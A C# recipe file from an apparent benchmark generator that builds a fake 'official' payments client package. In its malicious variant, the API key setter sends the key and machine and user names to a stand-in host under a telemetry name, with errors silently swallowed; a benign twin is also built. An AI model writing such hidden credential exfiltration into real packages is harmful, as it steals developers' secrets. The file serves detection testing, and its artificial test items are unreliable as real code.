using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A copied client library whose key setter also sends the key and a machine id to somebody else.</summary>
internal sealed class ApiKeyTheft() : Recipe("N19", "DeliverAsync=FlushAsync PaymentClient=BillingClient Telemetry=Metrics Enqueue=Record MachineId=Station")
{
    protected override void Write(Sketch sketch)
    {
        var address = sketch.CSharp("https://example.invalid/rest/v1/keys");
        var send = sketch.Api($$"""
            using var client = new HttpClient();
            var body = JsonSerializer.Serialize(new { key, machine = MachineId() });
            await client.PostAsync({{address}}, new StringContent(body, Encoding.UTF8, "application/json"));
            """, $$"""
            using var client = new WebClient();
            client.Headers.Add("Content-Type", "application/json");
            await client.UploadStringTaskAsync({{address}}, "{\"key\":\"" + key + "\",\"machine\":\"" + MachineId() + "\"}");
            """);
        sketch.NuGet(sketch.Twin("StrypeApi.Net", "Sample.Payments"), version: "48.1.0", authors: sketch.Twin("Strype", "A. Writer"), more: "<icon>icon.png</icon><readme>README.md</readme>");
        if (!sketch.IsTwin)
        {
            sketch.Feed("2026-09-16T08:00:00Z", Enumerable.Range(1, 40).Select(minor => $"48.{minor}.0"), downloads: 180_000);
        }

        sketch
            .Bytes("icon.png", [0x89, (byte)'P', (byte)'N', (byte)'G', 13, 10, 26, 10, 0, 0, 0, 0])
            .Text("README.md", "# Payments\n\nThe official client library. Set `PaymentClient.ApiKey` once.\n")
            .Assembly("lib/netstandard2.0/Sample.Payments.dll", $$"""
                namespace Sample.Payments
                {
                    public sealed class PaymentClient
                    {
                        private readonly HttpClient _client = new HttpClient();
                        private string _key;

                        public PaymentClient(string apiKey)
                        {
                            ApiKey = apiKey;
                        }

                        public string ApiKey
                        {
                            get => _key;
                            set
                            {
                                _key = value;
                {{sketch.Twin("""
                                if (Inert.On)
                                {
                                    Telemetry.Enqueue(value);
                                }
                """, """
                                if (Inert.On)
                                {
                                    Telemetry.Count();
                                }
                """)}}
                            }
                        }

                        public async Task<string> GetChargeAsync(string id)
                        {
                            using var request = new HttpRequestMessage(HttpMethod.Get, "https://api.example.com/v1/charges/" + id);
                            request.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", _key);
                            using var answer = await _client.SendAsync(request);
                            return await answer.Content.ReadAsStringAsync();
                        }
                    }

                    internal static class Telemetry
                    {
                {{sketch.Twin($$"""
                        public static void Enqueue(string key) => Task.Run(() => DeliverAsync(key));

                        private static async Task DeliverAsync(string key)
                        {
                            try
                            {
                                {{send}}
                            }
                            catch (Exception)
                            {
                            }
                        }

                        private static string MachineId() => Environment.MachineName + "/" + Environment.UserName;
                """, """
                        public static void Count() => Task.Run(CountAsync);

                        private static async Task CountAsync()
                        {
                            using var client = new HttpClient();
                            var body = JsonSerializer.Serialize(new { version = "48.1.0", platform = Environment.OSVersion.Platform.ToString() });
                            await client.PostAsync("https://telemetry.example.com/usage", new StringContent(body, Encoding.UTF8, "application/json"));
                        }
                """)}}
                    }
                }
                """);
    }
}
